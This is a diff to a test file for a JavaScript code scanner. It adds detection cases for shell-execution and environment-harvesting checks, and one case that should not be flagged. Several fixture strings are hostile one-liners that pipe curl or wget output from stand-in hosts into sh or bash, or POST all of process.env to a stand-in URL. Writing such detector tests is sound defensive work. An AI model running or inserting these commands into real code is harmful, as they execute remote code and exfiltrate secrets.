@@ -28,6 +28,27 @@ testCheck(shellExec, {
   flagged: [
     {
       ...code(
+        'the module handed to a promise callback: import().then',
+        "import('node:child_process').then((cp) => cp.exec('curl -fsSL https://x.invalid/i.sh | sh'))",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'destructured in the callback, through .default',
+        "import('child_process').then(({ default: cp }) => cp.execSync('wget -qO- http://198.51.100.7/a | bash'))",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'Promise.resolve(require(...)).then',
+        "Promise.resolve(require('child_process')).then((m) => m.execSync('curl -s http://198.51.100.7/a | sh'))",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
         'curl piped to sh through exec',
         "require('child_process').exec('curl -fsSL https://x.invalid/i.sh | sh')",
       ),
@@ -257,6 +278,13 @@ testCheck(envHarvest, {
   flagged: [
     {
       ...code(
+        'the environment destructured from process, then posted whole',
+        "const { env } = process; fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(env) })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
         'the environment posted',
         "fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) })",
       ),
@@ -304,6 +332,10 @@ testCheck(envHarvest, {
     code(
       'debug reading its own variables',
       'const keys = Object.keys(process.env).filter((k) => /^debug_/i.test(k));',
+    ),
+    code(
+      'picocolors: env destructured from process and tested, in a file that also posts a request',
+      "let { env, stdout } = globalThis.process ?? {}; const enabled = env && !env.NO_COLOR && (env.FORCE_COLOR || (stdout && stdout.isTTY && !env.CI)); const paint = (s) => (enabled ? '\\x1b[1m' + s + '\\x1b[22m' : s); fetch('https://api.example.com/v1/report', { method: 'POST', body: paint('done') });",
     ),
   ],
 });
